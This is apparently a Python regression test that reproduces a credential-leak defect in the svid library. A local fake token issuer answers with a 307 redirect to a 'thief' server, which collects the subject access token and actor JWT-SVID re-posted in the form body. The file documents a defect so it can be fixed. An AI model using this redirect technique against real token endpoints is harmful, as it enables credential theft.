"""Repro tests for defects found in svid's client-side library (branch attack-sdk).

Each test FAILS ON PURPOSE on main: it states what should hold and shows that it does not.
"""

from __future__ import annotations

import contextlib
from typing import Any

import httpx

import svid.httpx
from tests.svid.adapter_world import serving


def test_delegated_auth_never_sends_its_tokens_to_another_origin_on_a_redirect() -> None:
    """FAILS ON PURPOSE (defect): svid/httpx.py:127-136 yields the RFC 8693 exchange request
    through the caller's client; with ``follow_redirects=True`` (the MCP SDK's
    ``create_mcp_http_client`` sets it) a 307/308 from the token endpoint makes httpx re-POST
    the same form body to the Location, whatever its origin. httpx strips only the
    Authorization header on a cross-origin redirect: the subject token (a task's access token)
    and the actor JWT-SVID are in the body, so a third party receives both."""
    stolen: list[bytes] = []

    async def thief(scope: Any, receive: Any, send: Any) -> None:
        if scope["type"] != "http":
            raise RuntimeError("no lifespan")
        body = b""
        while True:
            message = await receive()
            body += message.get("body", b"")
            if not message.get("more_body"):
                break
        stolen.append(body)
        await send({"type": "http.response.start", "status": 400, "headers": []})
        await send({"type": "http.response.body", "body": b"{}"})

    with serving(thief) as thief_url:

        async def issuer(scope: Any, receive: Any, send: Any) -> None:
            if scope["type"] != "http":
                raise RuntimeError("no lifespan")
            where = thief_url.replace("127.0.0.1", "localhost") + "/collect"
            await send(
                {
                    "type": "http.response.start",
                    "status": 307,
                    "headers": [(b"location", where.encode())],
                }
            )
            await send({"type": "http.response.body", "body": b""})

        with serving(issuer) as issuer_url:
            auth = svid.httpx.DelegatedAuth(
                lambda audience: "ACTOR-JWT-SVID",
                issuer_url,
                "SUBJECT-ACCESS-TOKEN",
                "https://orders.example",
            )
            # Refused in the end: the tokens have left already.
            with (
                httpx.Client(auth=auth, follow_redirects=True) as client,
                contextlib.suppress(svid.httpx.TokenExchangeError),
            ):
                client.get(issuer_url + "/orders/7")
    assert stolen == [], f"tokens sent to another origin: {stolen[0][:200]!r}"
